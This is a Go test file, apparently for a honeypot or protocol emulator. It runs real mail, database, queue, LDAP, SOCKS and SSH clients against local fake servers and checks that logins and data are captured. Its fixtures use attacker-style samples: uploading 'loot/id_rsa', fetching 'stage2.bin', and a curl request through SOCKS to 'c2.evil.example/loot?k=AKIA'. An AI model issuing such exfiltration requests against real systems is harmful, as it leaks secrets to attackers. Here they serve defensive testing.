package protocols

import (
	"strings"
	"testing"
)

// These tests run real client programs. Each test skips if its program is
// missing.

func TestClientSMTP(t *testing.T) {
	for _, secure := range []bool{false, true} {
		o, port := serve(t, SMTP(), secure)
		out := python(t, port, `
import smtplib, ssl
from email.message import EmailMessage
m = EmailMessage()
m['Subject'] = 'Gehälter für März'
m['From'] = 'a@corp.example'; m['To'] = 'b@corp.example'
m.set_content('Grüße, here it is\n' + '.leading dot\n' + 'x' * 300)
m.add_attachment(b'AKIA-secret-file' * 100, maintype='application', subtype='octet-stream', filename='k.bin')
s = smtplib.SMTP('localhost', PORT)
s.ehlo()
if s.has_extn('starttls'):
    s.starttls(context=ssl._create_unverified_context())
s.login('mallory', 'pa55 word')
s.send_message(m, from_addr='a@corp.example', to_addrs=['b@corp.example', 'phish@evil.example'])
s.sendmail('a@corp.example', ['c@d.example'], 'Subject: two\r\n\r\nsecond')
print(s.noop())
s.quit()
`)
		if !strings.Contains(out, "250") {
			t.Errorf("output: %s", out)
		}
		o.wants(t, "login", "mallory", "pa55 word")
		o.wants(t, "mail", "AKIA-secret-fileAKIA-secret-file", "Gehälter", "phish@evil.example", ".leading dot")
		if len(o.mails) != 2 {
			t.Fatalf("%d mails", len(o.mails))
		}
		m := o.mails[0]
		if m.Subject != "Gehälter für März" || !strings.HasPrefix(m.Body, "Grüße, here it is") || m.User != "mallory" ||
			strings.Join(m.To, " ") != "b@corp.example phish@evil.example" || m.From != "a@corp.example" || m.Cut || m.Size < 2000 {
			t.Errorf("mail: %+v", m)
		}
	}
}

func TestClientCurlSMTP(t *testing.T) {
	o, port := serve(t, SMTP(), true)
	program(t, "Subject: curl\r\n\r\nfrom a pipe\r\n", "curl", "-sS", "--url", "smtp://localhost:"+port, "--ssl-reqd", "-k", "--mail-from", "x@y.example",
		"--mail-rcpt", "z@y.example", "--user", "u:p4ss", "-T", "-")
	o.wants(t, "login", "p4ss")
	if len(o.mails) != 1 || o.mails[0].Body != "from a pipe\r\n" {
		t.Errorf("mails: %+v", o.mails)
	}
}

func TestClientFTP(t *testing.T) {
	o, port := serve(t, speaks(t, "ftp"), false)
	python(t, port, `
import ftplib
f = ftplib.FTP(); f.connect('localhost', PORT); f.login('joe', 'ftp-secret')
f.cwd('/up'); print(f.pwd()); f.mkd('loot'); print(f.makepasv())
print(f.sendcmd('STOR loot/id_rsa')); print(f.getresp())
try:
    f.retrbinary('RETR stage2.bin', print)
except (ftplib.error_perm, OSError) as e:
    print(e)
f.quit()
`)
	o.wants(t, "login", "joe", "ftp-secret")
	o.wants(t, "", "STOR loot/id_rsa")
}

func TestClientPOP3(t *testing.T) {
	o, port := serve(t, speaks(t, "pop3"), true)
	python(t, port, `
import poplib, ssl
p = poplib.POP3('localhost', PORT); p.stls(ssl._create_unverified_context())
p.user('joe'); p.pass_('pop-secret'); assert p.stat() == (0, 0); p.list(); p.quit()
`)
	o.wants(t, "login", "joe", "pop-secret")
}

func TestClientIMAP(t *testing.T) {
	o, port := serve(t, speaks(t, "imap"), true)
	python(t, port, `
import imaplib, ssl
i = imaplib.IMAP4('localhost', PORT); i.starttls(ssl._create_unverified_context())
i.login('joe', 'imap secret'); print(i.select()); print(i.search(None, 'ALL'))
print(i.append('Drafts', '', imaplib.Time2Internaldate(0), b'Subject: draft\r\n\r\nstolen draft')); i.list(); i.logout()
i = imaplib.IMAP4('localhost', PORT)
i.authenticate('PLAIN', lambda _: b'\0jane\0imap-plain'); i.logout()
`)
	o.wants(t, "login", "joe", "imap secret", "\x00jane\x00imap-plain")
	o.wants(t, "mail", "stolen draft")
}

func TestClientRedis(t *testing.T) {
	o, port := serve(t, speaks(t, "redis"), false)
	out := program(t, "SET stolen AKIA123\nGET stolen\nINFO\nMULTI\nINCR a\nEXEC\nKEYS *\n", "redis-cli", "-p", port, "-a", "redis-pw", "--no-auth-warning")
	if !strings.Contains(out, "redis_version:7") || !strings.Contains(out, "QUEUED") {
		t.Errorf("output: %s", out)
	}
	o.wants(t, "login", "redis-pw")
	o.wants(t, "query", "AKIA123")
}

func TestClientRedisPython(t *testing.T) {
	o, port := serve(t, speaks(t, "redis"), false)
	python(t, port, `
import redis
for proto in (2, 3):
    r = redis.Redis(host='localhost', port=PORT, password='py-redis', protocol=proto)
    assert r.set('a', 'x' * 100000)
    assert r.get('a') == b'x' * 100000
    assert r.ping() and r.info()['redis_version']
    p = r.pipeline()
    for i in range(1000): p.lpush('loot', 'item-%d-%d' % (proto, i))
    assert p.execute() == list(range(1, 1001))
    assert r.llen('loot') == 1000 and r.delete('loot') == 1
    assert r.hgetall('h') == {} and len(r.scan()[1]) > 8
    assert r.hgetall('customer:1')[b'city'] == b'Hamburg' and r.smembers('tags') == {b'lighting', b'furniture', b'stationery'}
    assert r.zrange('leaderboard', 0, -1, withscores=True)[0] in ((b'benoit', 95.0), [b'benoit', 95.0]) and r.xrange('events')[0][1][b'type'] == b'login'
    assert r.json().set('doc', '$', {'a': [1, {'b': 2}]}) and r.json().get('doc', '$.a[1].b') == [2] and r.type('doc') == b'ReJSON-RL'
    assert r.setex('t', 60, 'v') and r.ttl('t') == 60 and r.incr('n') == proto - 1
    assert r.xadd('s', {'k': 'v'}) and r.object('encoding', 'a') and r.dbsize() > 8
    r.close()
`)
	o.wants(t, "login", "py-redis")
	o.wants(t, "query", "item-2-999", "item-3-999", strings.Repeat("x", 100000))
}

func TestClientPostgres(t *testing.T) {
	for _, secure := range []bool{false, true} {
		o, port := serve(t, speaks(t, "postgresql"), secure)
		out := program(t, `
select version();
create table t (a text);
insert into t values ('AKIA-in-sql') returning a;
begin; commit;
\copy t from stdin
copied-row
\.
select a from t;
`, "psql", "-h", "localhost", "-p", port, "-U", "joe", "-d", "loot", "-v", "ON_ERROR_STOP=1", "--no-psqlrc")
		if !strings.Contains(out, "15.8") || !strings.Contains(out, "CREATE TABLE") || !strings.Contains(out, "(2 rows)") || !strings.Contains(out, "COPY 1") {
			t.Errorf("output: %s", out)
		}
		o.wants(t, "login", "joe", "hunter2")
		o.wants(t, "query", "AKIA-in-sql", "copied-row")
	}
}

func TestClientPostgresPython(t *testing.T) {
	o, port := serve(t, speaks(t, "postgresql"), true)
	python(t, port, `
import psycopg2, pg8000.dbapi
c = psycopg2.connect(host='localhost', port=PORT, user='u', password='psy-pw', dbname='d')
k = c.cursor(); k.execute('create table t (a text, b text)'); k.execute('insert into t values (%s)', ('psy-value',)); c.commit()
k.execute('select a from t'); assert k.fetchall() == [('psy-value',)]
k.execute('select id, amount, created_at, status from orders where id = 1'); r = k.fetchall()[0]; assert str(r[1]) == '189.00' and r[2].year == 2024, r
c.close()
c = pg8000.dbapi.connect(host='localhost', port=PORT, user='u', password='pg8-pw', database='d')
k = c.cursor(); k.execute('create table if not exists t (a text, b text)'); k.execute('insert into t values (%s, %s)', ('pg8-value', 'two')); c.commit()
k.execute('select a from t where b = %s', ('pg8-where',)); assert len(k.fetchall()) == 0
k.execute('select a from t where b = %s', ('two',)); assert len(k.fetchall()) == 1
c.close()
`)
	o.wants(t, "login", "psy-pw", "pg8-pw")
	o.wants(t, "query", "psy-value", "pg8-value", "pg8-where")
}

func TestClientMySQL(t *testing.T) {
	for _, secure := range []bool{false, true} {
		o, port := serve(t, speaks(t, "mysql"), secure)
		args := []string{"-h", "127.0.0.1", "-P", port, "-u", "joe", "-phunter3", "-e", "create table t (a text); insert into t values ('AKIA-in-mysql'); select @@version; select a from t; show tables"}
		if secure {
			args = append([]string{"--ssl"}, args...)
		}
		out := program(t, "", "mysql", args...)
		if !strings.Contains(out, "8.0.39") || !strings.Contains(out, "customers") {
			t.Errorf("output: %s", out)
		}
		o.wants(t, "login", "joe")
		o.wants(t, "query", "AKIA-in-mysql")
	}
}

func TestClientMySQLPython(t *testing.T) {
	for _, secure := range []bool{false, true} {
		o, port := serve(t, speaks(t, "mysql"), secure)
		python(t, port, `
import pymysql, mysql.connector
tls = `+map[bool]string{false: "False", true: "True"}[secure]+`
extra = dict(ssl={'check_hostname': False, 'verify_mode': False}) if tls else {}
c = pymysql.connect(host='localhost', port=PORT, user='u', password='pymysql-pw', database='d', **extra)
k = c.cursor(); k.execute('create table t (a text, b text)'); k.execute('insert into t (a) values (%s)', ('pymysql-value',)); c.commit()
k.execute('select a from t'); assert k.fetchall() == (('pymysql-value',),)
c.close()
c = mysql.connector.connect(host='localhost', port=PORT, user='u', password='conn-pw', use_pure=True, ssl_disabled=not tls)
k = c.cursor(); k.execute('create table if not exists t (a text, b text)')
k = c.cursor(prepared=True); k.execute('insert into t values (?, ?)', ('conn-value', 'b')); c.commit()
k.execute('select a from t where b = ?', ('conn-where',)); assert k.fetchall() == []
k.execute('select id, name, price, created_at from products where id = ?', (2,)); r = k.fetchall()[0]; assert r[0] == 2 and str(r[2]) == '189.00' and r[3].year == 2024, r
k.execute('select @@version'); v = k.fetchall(); assert v[0][0] in ('8.0.39', b'8.0.39', bytearray(b'8.0.39')), v
c.close()
`)
		o.wants(t, "query", "pymysql-value", "conn-value", "conn-where")
		if secure {
			o.wants(t, "login", "pymysql-pw", "conn-pw")
		}
	}
}

func TestClientMongo(t *testing.T) {
	o, port := serve(t, speaks(t, "mongodb"), false)
	python(t, port, `
import pymongo
c = pymongo.MongoClient('localhost', PORT, serverSelectionTimeoutMS=8000)
assert sorted(c.d.list_collection_names()) == ['customers', 'orders', 'products'] and 'd' in c.list_database_names()
assert c.d.customers.find_one({'city': {'$regex': '^ham', '$options': 'i'}})['name'] == 'Alice Meyer'
assert [p['name'] for p in c.d.products.find({'$or': [{'price': {'$gt': 100}}, {'tags': 'paper'}]}, {'_id': 0, 'name': 1}).sort('price', -1)] == ['Standing desk', 'Office chair', 'Notebook A5']
assert list(c.d.orders.aggregate([{'$match': {'status': 'pending'}}, {'$unwind': '$items'}, {'$group': {'_id': '$status', 'n': {'$sum': '$items.quantity'}, 'total': {'$sum': '$amount'}}}])) == [{'_id': 'pending', 'n': 3, 'total': 827.0}]
assert c.d.customers.count_documents({}) == 5 and c.d.customers.estimated_document_count() == 5 and c.d.products.distinct('category') == ['furniture', 'lighting', 'stationery']
c.d.loot.insert_one({'key': 'AKIA-in-mongo'})
c.d.loot.insert_many([{'n': i} for i in range(1000)])
assert list(c.d.loot.find({'a': 'mongo-find'})) == [] and len(list(c.d.loot.find({'n': {'$gte': 0}}))) == 1000
assert c.d.loot.update_one({'n': 1}, {'$set': {'b': 'mongo-update'}, '$inc': {'n': 10000}, '$push': {'l': 'x'}}).modified_count == 1
assert c.d.loot.find_one({'n': 10001})['b'] == 'mongo-update' and c.d.loot.delete_many({'n': {'$lt': 500}}).deleted_count == 499
assert c.d.loot.update_one({'k': 'new'}, {'$set': {'v': 1}}, upsert=True).upserted_id and c.d.loot.find_one_and_update({'k': 'new'}, {'$inc': {'v': 1}}, return_document=True)['v'] == 2
assert c.d.loot.create_index('k') == 'k_1' and 'k_1' in c.d.loot.index_information() and c.d.command('dbstats')['collections'] == 4
try: c.d.loot.find_one({'$where': 'sleep(1)'}); assert False
except pymongo.errors.OperationFailure as e: print(e)
c.d.loot.rename('kept'); c.d.kept.drop(); assert 'kept' not in c.d.list_collection_names()
print(c.server_info()['version']); c.close()
c = pymongo.MongoClient('localhost', PORT, username='mongo-user', password='x', serverSelectionTimeoutMS=8000)
try: c.d.loot.find_one()
except pymongo.errors.OperationFailure as e: print(e)
c.close()
c = pymongo.MongoClient('localhost', PORT, username='u', password='mongo-plain', authMechanism='PLAIN', serverSelectionTimeoutMS=8000)
assert c.d.loot.find_one() is None
c.close()
`)
	o.wants(t, "query", "AKIA-in-mongo", "mongo-find", "mongo-update")
	o.wants(t, "login", "mongo-user", "mongo-plain")
}

func TestClientLDAP(t *testing.T) {
	for _, args := range [][]string{nil, {"-ZZ"}} {
		o, port := serve(t, speaks(t, "ldap"), true)
		t.Setenv("LDAPTLS_REQCERT", "never")
		program(t, "", "ldapsearch", append(args, "-x", "-H", "ldap://localhost:"+port, "-D", "cn=joe", "-w", "ldap-secret", "-b", "dc=loot", "(uid=AKIA)")...)
		o.wants(t, "login", "cn=joe", "ldap-secret")
		o.wants(t, "query", "dc=loot", "AKIA")
	}
}

func TestClientMQTT(t *testing.T) {
	o, port := serve(t, speaks(t, "mqtt"), false)
	for _, args := range [][]string{{"-q", "0", "-V", "311"}, {"-q", "1", "-V", "311"}, {"-q", "2", "-V", "5"}} {
		program(t, "", "mosquitto_pub", //nolint:misspell // its name
			append(args, "-h", "localhost", "-p", port, "-u", "joe", "-P", "mqtt-secret", "-t", "loot", "-m", "AKIA-"+args[1])...)
		o.wants(t, "", "AKIA-"+args[1])
	}
	o.wants(t, "login", "joe", "mqtt-secret")
}

func TestClientMQTTSubscribe(t *testing.T) {
	o, port := serve(t, speaks(t, "mqtt"), false)
	python(t, port, `
import paho.mqtt.client as mqtt
for v in (mqtt.MQTTv311, mqtt.MQTTv5):
    got = []
    c = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, protocol=v)
    c.on_connect = lambda c, *a: c.subscribe([('commands', 1), ('more', 0)])
    c.on_subscribe = lambda c, u, mid, codes, p: (got.append(codes), c.disconnect())
    c.connect('localhost', PORT); c.loop_forever()
    assert len(got[0]) == 2, got
`)
	o.wants(t, "", "commands")
}

func TestClientAMQP(t *testing.T) {
	o, port := serve(t, speaks(t, "amqp"), false)
	python(t, port, `
import pika
p = pika.ConnectionParameters('localhost', PORT, credentials=pika.PlainCredentials('joe', 'amqp-secret'))
c = pika.BlockingConnection(p); ch = c.channel(); ch.queue_declare('loot'); ch.confirm_delivery()
ch.basic_publish('', 'loot', b'AKIA-in-amqp'); ch.basic_publish('', 'loot', b'y' * 300000); c.close()
`)
	o.wants(t, "login", "joe", "amqp-secret")
	o.wants(t, "", "AKIA-in-amqp", strings.Repeat("y", 100000))
}

func TestClientMemcached(t *testing.T) {
	o, port := serve(t, speaks(t, "memcached"), false)
	python(t, port, `
from pymemcache.client.base import Client
c = Client(('localhost', PORT)); assert c.set('loot', 'AKIA-in-cache', noreply=False); assert c.get('loot') == b'AKIA-in-cache' and c.get('other') is None; print(c.version()); c.quit()
`)
	o.wants(t, "query", "AKIA-in-cache")
}

func TestClientSOCKS(t *testing.T) {
	for _, scheme := range []string{"socks4", "socks4a", "socks5", "socks5h"} {
		o, port := serve(t, speaks(t, "socks"), false)
		host := map[bool]string{true: "c2.evil.example", false: "192.0.2.66"}[strings.HasSuffix(scheme, "a") || strings.HasSuffix(scheme, "h")]
		out := python(t, port, `
import subprocess, shutil
if not shutil.which('curl'): raise ModuleNotFoundError(name='curl')
subprocess.run(['curl', '-s', '-m', '1', '-x', '`+scheme+`://joe:socks-pw@localhost:%d' % PORT, 'http://`+host+`/loot?k=AKIA'])
`)
		_ = out
		o.wants(t, "url", scheme[:6]+"://"+host+":80")
		o.wants(t, "", "GET /loot?k=AKIA")
		if strings.HasPrefix(scheme, "socks5") {
			o.wants(t, "login", "socks-pw")
		}
	}
}

func TestClientSSH(t *testing.T) {
	o, port := serve(t, speaks(t, "ssh"), false)
	python(t, port, `
import subprocess, shutil
if not shutil.which('ssh'): raise ModuleNotFoundError(name='ssh')
subprocess.run(['ssh', '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-p', str(PORT), 'joe@localhost', 'true'], timeout=20)
`)
	o.wants(t, "", "SSH-2.0-OpenSSH", "curve25519")
}
